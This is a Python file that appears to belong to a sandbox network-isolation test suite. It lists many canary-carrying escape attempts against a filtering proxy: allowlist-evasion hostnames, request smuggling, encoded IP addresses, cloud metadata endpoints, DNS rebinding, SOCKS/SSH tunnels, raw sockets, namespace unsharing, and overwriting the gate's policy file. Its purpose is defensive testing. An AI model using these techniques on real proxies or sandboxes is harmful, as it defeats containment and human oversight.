"""Attempts to get out of a sandbox's network: run inside it by the suite, with Python's standard library only.

Each sends its canary to where it must not come. ``python3 attempts.py KIND LISTENERS [NAMES]`` runs those of a kind, and
prints which of them came somewhere. The suite looks for the canaries at all other ends.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import ssl
import struct
import sys
import urllib.request
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

PROXY = ("127.0.0.1", 3128)
LISTED, PUBLIC = "pkgs.dev", "93.184.216.34"
EVIL = "evil.example"
SECONDS = 5.0
Attempt = Callable[[str, dict[str, Any]], Any]
# By kind: through a gate that knows a list, through one that is open to all public hosts, and past the gate.
ATTEMPTS: dict[str, dict[str, Attempt]] = {"listed": {}, "open": {}, "walls": {}}


def through_gate(data: bytes, *more: bytes, proxy: Any = PROXY) -> bytes:
    """All that the gate answers."""
    answer = b""
    with socket.create_connection(proxy, SECONDS) as gate:
        gate.settimeout(SECONDS)
        with suppress(OSError):
            gate.sendall(data)
            for each in more:
                answer += gate.recv(65536)
                gate.sendall(each)
            while data := gate.recv(65536):
                answer += data
    return answer


def hello(name: str) -> bytes:
    """The first message of a client of TLS."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name or None).do_handshake()
    return outgoing.read()


def get(target: str, host: str, *lines: str, method: str = "GET", version: str = "1.1") -> bytes:
    """The head of a request."""
    head = [f"{method} {target} HTTP/{version}", f"Host: {host}", *lines, "", ""]
    return "\r\n".join(head).encode("utf-8")


def connect(host: str, port: str = "443", *lines: str) -> bytes:
    """The head of a request for a tunnel."""
    return get(f"{host}:{port}", f"{host}:{port}", *lines, method="CONNECT")


def add(kind: str, name: str, attempt: Attempt) -> None:
    """Enter an attempt in the table. Its canary is made of its name."""
    assert not any(name in attempts for attempts in ATTEMPTS.values()), name
    ATTEMPTS[kind][name] = attempt


def canary_of(name: str) -> str:
    """What must not arrive anywhere. It can stand in a name, a path and a header."""
    return f"canary-{name}-end"


def send(*parts: bytes) -> Attempt:
    """An attempt that sends bytes to the gate; CANARY in them is its canary."""

    def run(canary: str, _: dict[str, Any]) -> None:
        first, *more = (part.replace(b"CANARY", canary.encode()) for part in parts)
        through_gate(first, *more)

    return run


def tunnel(head: bytes, data: bytes | Callable[[str], bytes]) -> Attempt:
    """An attempt that sends bytes through a tunnel, once there is one."""

    def run(canary: str, _: dict[str, Any]) -> None:
        inside = data(canary) if callable(data) else data.replace(b"CANARY", canary.encode())
        through_gate(head.replace(b"CANARY", canary.encode()), inside)

    return run


def split_records(data: bytes, size: int) -> bytes:
    """The message of one record of TLS in many."""
    body = data[5:]
    parts = [body[at : at + size] for at in range(0, len(body), size)]
    return b"".join(b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part for part in parts)


# --- hosts that are not on the list -----------------------------------------------------------------

add("listed", "plain-request", send(get(f"http://CANARY.{EVIL}/", f"CANARY.{EVIL}")))
add("listed", "tunnel", send(connect(f"CANARY.{EVIL}")))
add("listed", "suffix-of-the-list", send(get("http://CANARYmoving.dev/", "CANARYmoving.dev")))
add(
    "listed",
    "listed-name-as-a-prefix",
    send(get(f"http://{LISTED}.CANARY.{EVIL}/", f"{LISTED}.CANARY.{EVIL}")),
)
add("listed", "below-a-listed-name", send(get(f"http://CANARY.{LISTED}/", f"CANARY.{LISTED}")))
add("listed", "trailing-dot", send(get(f"http://CANARY.{EVIL}./", f"CANARY.{EVIL}.")))
add("listed", "two-trailing-dots", send(connect(f"CANARY.{EVIL}..")))
add("listed", "capitals", send(get(f"http://CANARY.{EVIL.upper()}/", f"CANARY.{EVIL.upper()}")))
add("listed", "user-before-the-host", send(get(f"http://{LISTED}@CANARY.{EVIL}/", LISTED)))
add("listed", "user-and-password", send(get(f"http://{LISTED}:80@CANARY.{EVIL}/", LISTED)))
add("listed", "fragment", send(get(f"http://{LISTED}#@CANARY.{EVIL}/", LISTED)))
add("listed", "backslash", send(get(f"http://{LISTED}\\@CANARY.{EVIL}/", LISTED)))
add("listed", "encoded-dot", send(get(f"http://{LISTED}%2eCANARY.{EVIL}/", LISTED)))
add("listed", "encoded-nul", send(get(f"http://{LISTED}%00.CANARY.{EVIL}/", LISTED)))
add("listed", "nul", send(get(f"http://{LISTED}\0.CANARY.{EVIL}/", LISTED)))
add("listed", "wide-letters", send(get("http://CANARY.ｅvil.example/", "CANARY.ｅvil.example")))
add("listed", "wide-dot", send(get("http://CANARY.evil。example/", "CANARY.evil。example")))
add("listed", "punycode", send(connect("CANARY.xn--vil-7dc.example")))
add("listed", "star", send(connect("*.CANARY.dev")))
add("listed", "scope", send(get(f"http://[fe80::1%25CANARY.{EVIL}]/", LISTED)))

# --- a host that differs from the address -----------------------------------------------------------

add("listed", "other-host-header", send(get(f"http://{LISTED}/", f"CANARY.{EVIL}")))
add("listed", "two-host-headers", send(get(f"http://{LISTED}/", LISTED, f"Host: CANARY.{EVIL}")))
add("listed", "host-with-a-space", send(get(f"http://{LISTED}/", LISTED, f"Host : CANARY.{EVIL}")))
add(
    "listed", "folded-host", send(get(f"http://{LISTED}/", LISTED, f"X: y\r\n Host: CANARY.{EVIL}"))
)
add("listed", "host-after-a-bare-lf", send(get(f"http://{LISTED}/", LISTED, "X: y\nHost: CANARY")))
add("listed", "host-after-a-bare-cr", send(get(f"http://{LISTED}/", LISTED, "X: y\rHost: CANARY")))
add("listed", "host-after-a-nul", send(get(f"http://{LISTED}/", LISTED, "X: y\0Host: CANARY")))
add("listed", "origin-form", send(get("/CANARY", LISTED)))
for header in (
    *("X-Forwarded-Host", "Forwarded", "Via", "Proxy-Authorization", "Upgrade"),
    *("HTTP2-Settings", "TE", "Trailer", "Expect", "Keep-Alive"),
):
    # A server, or a proxy before it, could take its words for its own.
    add("listed", f"header-{header.lower()}", send(get(f"http://{LISTED}/", LISTED, f"{header}: CANARY")))  # fmt: skip
add(
    "listed",
    "header-named-by-connection",
    send(get(f"http://{LISTED}/", LISTED, "Connection: close, X-Own", "X-Own: CANARY")),
)

# --- a second request in the first ------------------------------------------------------------------

SECOND = get("http://CANARY.evil.example/CANARY", "CANARY.evil.example")
add("listed", "pipelined", send(get(f"http://{LISTED}/", LISTED) + SECOND))
add(
    "listed",
    "body-by-length",
    send(get(f"http://{LISTED}/", LISTED, f"Content-Length: {len(SECOND) + 100}") + SECOND),
)
add(
    "listed",
    "body-by-chunks",
    send(get(f"http://{LISTED}/", LISTED, "Transfer-Encoding: chunked") + b"0\r\n\r\n" + SECOND),
)
add(
    "listed",
    "two-lengths",
    send(get(f"http://{LISTED}/", LISTED, "Content-Length: 0", "Content-Length: 99") + SECOND),
)
add(
    "listed",
    "length-and-chunks",
    send(
        get(f"http://{LISTED}/", LISTED, "Content-Length: 4", "Transfer-Encoding: x,chunked")
        + SECOND
    ),
)
add("listed", "body-of-a-tunnel", send(connect(LISTED, "443", "Content-Length: 900") + SECOND))
add("listed", "post", send(get(f"http://{LISTED}/", LISTED, "Content-Length: 99", method="POST") + b"CANARY"))  # fmt: skip
add("listed", "put-without-a-length", send(get(f"http://{LISTED}/CANARY", LISTED, method="PUT")))
add("listed", "trace", send(get(f"http://{LISTED}/CANARY", LISTED, method="TRACE")))
add("listed", "old-http", send(f"GET http://CANARY.{EVIL}/\r\n\r\n".encode()))
add("listed", "http-2", send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nCANARY.evil.example"))
add("listed", "request-line-with-a-tab", send(get(f"http://{LISTED}/\tHTTP/1.1\tCANARY", LISTED)))
add("listed", "head-without-an-end", send(get(f"http://{LISTED}/", LISTED)[:-2] + b"X: " + b"a" * 40_000 + b"CANARY\r\n\r\n"))  # fmt: skip

# --- addresses, ports, schemes ----------------------------------------------------------------------

for name, text in {
    "address": PUBLIC,
    "address-as-a-number": "1572395042",
    "address-as-hex": "0x5db8d822",
    "address-as-octal": "0135.0270.0330.042",
    "address-in-short": "93.12114978",
    "address-of-version-6": "[2606:2800:220:1::1]",
    "address-of-4-in-6": f"[::ffff:{PUBLIC}]",
    "address-of-nat64": "[64:ff9b::5db8:d822]",
    "address-with-a-dot": f"{PUBLIC}.",
}.items():
    add("open", f"plain-{name}", send(get(f"http://{text}/CANARY", text)))
    add("open", f"tunnel-{name}", tunnel(connect(text), hello))
for name, port in {
    "ssh": "22",
    "mail": "25",
    "http": "80",
    "zero": "0",
    "wrapped-around": "65979",
    "with-a-sign": "+443",
}.items():
    add("listed", f"tunnel-to-port-{name}", tunnel(connect(LISTED, port), b"CANARY"))
add("listed", "plain-to-port-8080", send(get(f"http://{LISTED}:8080/CANARY", f"{LISTED}:8080")))
add("listed", "plain-to-port-443", send(get(f"http://{LISTED}:443/CANARY", f"{LISTED}:443")))
for scheme in ("https", "ftp", "ws", "gopher", "file", "unix"):
    add("listed", f"scheme-{scheme}", send(get(f"{scheme}://{LISTED}/CANARY", LISTED)))

# --- what goes through a tunnel ---------------------------------------------------------------------

TUNNEL = connect(LISTED)
add("listed", "other-name-in-tls", tunnel(TUNNEL, lambda canary: hello(f"{canary}.{EVIL}")))
add("listed", "name-below-in-tls", tunnel(TUNNEL, lambda canary: hello(f"{canary}.{LISTED}")))
add("listed", "other-name-in-pieces", tunnel(TUNNEL, lambda canary: split_records(hello(f"{canary}.{EVIL}"), 9) + canary.encode()))  # fmt: skip
add("listed", "no-name-in-tls", tunnel(TUNNEL, lambda canary: hello("") + canary.encode()))
add("listed", "proxy-in-the-tunnel", tunnel(TUNNEL, connect(f"CANARY.{EVIL}")))
add("listed", "plain-in-the-tunnel", tunnel(TUNNEL, get("/CANARY", LISTED)))
add("listed", "ssh-in-the-tunnel", tunnel(TUNNEL, b"SSH-2.0-CANARY\r\n"))
add("listed", "socks-in-the-tunnel", tunnel(TUNNEL, b"\x05\x01\x00CANARY"))
add("listed", "tls-of-version-2", tunnel(TUNNEL, b"\x80\x2e\x01\x03\x01CANARY"))
add("listed", "sent-before-the-answer", send(TUNNEL + b"CANARY"))
add("listed", "tunnel-in-an-address", send(get(f"http://{LISTED}/", LISTED, method="CONNECT") + b"CANARY"))  # fmt: skip
add("listed", "socks-5", send(b"\x05\x01\x00", b"\x05\x01\x00\x03\x13CANARY.evil.example\x01\xbb"))
add("listed", "socks-4", send(b"\x04\x01\x01\xbb\x00\x00\x00\x01\x00CANARY.evil.example\x00"))

# --- names that lead into private networks; the suite resolves them ---------------------------------

PRIVATE = {
    "loopback": ["127.0.0.1"],
    "network-10": ["10.0.0.7"],
    "bridge-of-docker": ["172.17.0.1"],
    "home": ["192.168.1.1"],
    "metadata": ["169.254.169.254"],
    "metadata-of-alibaba": ["100.100.100.200"],
    "metadata-of-aws-6": ["fd00:ec2::254"],
    "metadata-of-azure": ["168.63.129.16"],
    "mapped-metadata-of-azure": ["::ffff:168.63.129.16"],
    "metadata-of-google-6": ["fd20:ce::254"],
    "metadata-of-oracle": ["192.0.0.192"],
    "unspecified": ["0.0.0.0"],
    "unspecified-6": ["::"],
    "6to4-metadata": ["2002:a9fe:a9fe::"],
    "multicast": ["224.0.0.1"],
    "broadcast": ["255.255.255.255"],
    "loopback-6": ["::1"],
    "link-local-6": ["fe80::1"],
    "mapped-metadata": ["::ffff:169.254.169.254"],
    "translated-metadata": ["64:ff9b::a9fe:a9fe"],
    "6to4-loopback": ["2002:7f00:1::"],
    "teredo": ["2001:0:7f00:1::1"],
    "compatible-loopback": ["::127.0.0.1"],
    "public-and-private": [PUBLIC, "127.0.0.1"],
    "many-public-and-private": [*(f"93.184.216.{n}" for n in range(30, 40)), "10.0.0.7"],
}
for name in PRIVATE:
    add("listed", f"name-of-{name}", send(get("http://CANARY.moving.dev/CANARY", "CANARY.moving.dev")))  # fmt: skip
add("listed", "tunnel-to-a-private-name", tunnel(connect("CANARY.moving.dev"), lambda canary: hello(f"{canary}.moving.dev")))  # fmt: skip


def _rebind(canary: str, _: dict[str, Any]) -> None:
    """The name is public at first, and private from the second time on."""
    for path in ("first", canary):
        through_gate(get(f"http://rebinding.moving.dev/{path}", "rebinding.moving.dev"))


add("listed", "rebinding", _rebind)
for name in ("localhost", "localhost.localdomain", "metadata.google.internal", "router.local", "x"):
    add("open", f"name-{name}", send(get(f"http://{name}/CANARY", name)))


def _follow(canary: str, _: dict[str, Any], *, to: str) -> None:
    """An ordinary client follows the redirect of a listed host."""
    address = f"http://{LISTED}/redirect?to={to.format(canary).encode().hex()}"
    with suppress(OSError):
        urllib.request.urlopen(address, timeout=SECONDS)


add("listed", "redirect-to-another-host", partial(_follow, to=f"http://{{}}.{EVIL}/"))
add("listed", "redirect-to-metadata", partial(_follow, to="http://169.254.169.254/{}"))
add("listed", "redirect-to-a-private-name", partial(_follow, to="http://loopback.moving.dev/{}"))
add("listed", "redirect-to-another-port", partial(_follow, to=f"http://{LISTED}:8080/{{}}"))

# --- past the gate: these say themselves whether they came anywhere ---------------------------------


def _direct(canary: str, listeners: dict[str, Any], *, host: str) -> bool:
    address = (host or listeners["host"], listeners["tcp"])
    with socket.create_connection(address, 1.0) as found:
        found.sendall(canary.encode())
        return found.recv(1) == b"!"


def _datagram(canary: str, listeners: dict[str, Any], *, host: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sender.sendto(canary.encode(), (host or listeners["host"], listeners["udp"]))


def _unix(canary: str, listeners: dict[str, Any], *, which: str) -> bool:
    with socket.socket(socket.AF_UNIX) as found:
        found.settimeout(1.0)
        found.connect(listeners[which].replace("@", "\0"))
        found.sendall(canary.encode())
        return found.recv(1) == b"!"


def _socket_of(canary: str, _: dict[str, Any], *, family: int, kind: int, protocol: int) -> bool:
    """Whether there can be a socket that sees or reaches more than one's own loopback."""
    with socket.socket(family, kind, protocol):
        return True


def _resolve(canary: str, _: dict[str, Any]) -> bool:
    return bool(socket.getaddrinfo(f"{canary}.{EVIL}", 443))


def _ask_name_server(canary: str, _: dict[str, Any], *, server: str) -> bool:
    question = b"".join(
        bytes([len(part)]) + part.encode() for part in f"{canary}.{EVIL}".split(".")
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(0.5)
        asker.sendto(
            struct.pack("!6H", 7, 256, 1, 0, 0, 0) + question + b"\0\0\1\0\1", (server, 53)
        )
        return bool(asker.recv(512))


def _join_network(canary: str, _: dict[str, Any]) -> bool:
    """Make a network of its own, with rights in it."""
    libc = ctypes.CDLL(None, use_errno=True)
    clone_newuser, clone_newnet = 0x10000000, 0x40000000
    if libc.unshare(clone_newuser | clone_newnet) != 0:
        return False
    return _socket_of(canary, {}, family=socket.AF_PACKET, kind=socket.SOCK_RAW, protocol=0)


def _enter_network(canary: str, _: dict[str, Any]) -> bool:
    own = Path("/proc/self/ns/net").stat().st_ino
    for path in Path("/proc").glob("[0-9]*/ns/net"):
        with suppress(OSError):
            if path.stat().st_ino != own:
                return True
    return False


def _write(canary: str, _: dict[str, Any], *, path: str) -> bool:
    Path(path).write_text(canary)
    return True


def _find_sockets(canary: str, listeners: dict[str, Any]) -> bool:
    """Other sockets in files than the one of the gate, such as those of Docker and of other conversations."""
    for folder in ("/run", "/var/run", "/tmp", listeners["folder"]):
        for parent, _, names in os.walk(folder):
            for path in (Path(parent, name) for name in names):
                if path.is_socket() and str(path.resolve()) != "/run/paca/gate":
                    return True
    return False


def _see_folder_of_gates(canary: str, listeners: dict[str, Any]) -> bool:
    return Path(listeners["folder"]).exists()


add("walls", "tcp-to-loopback", partial(_direct, host="127.0.0.1"))
add("walls", "tcp-to-the-host", partial(_direct, host=""))
add("walls", "udp-to-loopback", partial(_datagram, host="127.0.0.1"))
add("walls", "udp-to-the-host", partial(_datagram, host=""))
add("walls", "udp-to-all", partial(_datagram, host="255.255.255.255"))
add("walls", "abstract-socket-of-the-host", partial(_unix, which="abstract"))
add("walls", "socket-in-a-file-of-the-host", partial(_unix, which="file"))
add("walls", "sockets-in-files", _find_sockets)
add("walls", "folder-of-gates", _see_folder_of_gates)
add("walls", "raw-socket", partial(_socket_of, family=socket.AF_INET, kind=socket.SOCK_RAW, protocol=1))  # fmt: skip
add("walls", "raw-socket-6", partial(_socket_of, family=socket.AF_INET6, kind=socket.SOCK_RAW, protocol=58))  # fmt: skip
add("walls", "packet-socket", partial(_socket_of, family=socket.AF_PACKET, kind=socket.SOCK_RAW, protocol=0))  # fmt: skip
# Sockets between virtual machines know no namespaces.
add("walls", "vsock", partial(_socket_of, family=40, kind=socket.SOCK_STREAM, protocol=0))
add("walls", "crypto-socket", partial(_socket_of, family=38, kind=socket.SOCK_SEQPACKET, protocol=0))  # fmt: skip
add("walls", "resolver", _resolve)
add("walls", "public-name-server", partial(_ask_name_server, server="1.1.1.1"))
add("walls", "own-network", _join_network)
add("walls", "network-of-another-process", _enter_network)
add("walls", "policy-of-the-gate", partial(_write, path="/run/paca/policy.json"))
add("walls", "policy-beside-the-gate", partial(_write, path="/run/paca/../paca/../policy.json"))
add("walls", "socket-of-the-gate", partial(_write, path="/run/paca/gate"))


def main() -> None:
    """Run the attempts of a kind, or those of it that are named."""
    listeners = json.loads(sys.argv[2])
    wanted = set(sys.argv[3:]) or ATTEMPTS[sys.argv[1]].keys()

    def arrives(name: str) -> bool:
        with suppress(OSError, AttributeError, ValueError):
            return bool(ATTEMPTS[sys.argv[1]][name](canary_of(name), listeners))
        return False

    with ThreadPoolExecutor(8) as threads:
        arrived = list(threads.map(arrives, names := sorted(wanted)))
    print(json.dumps([name for name, found in zip(names, arrived, strict=True) if found]))


if __name__ == "__main__":
    main()
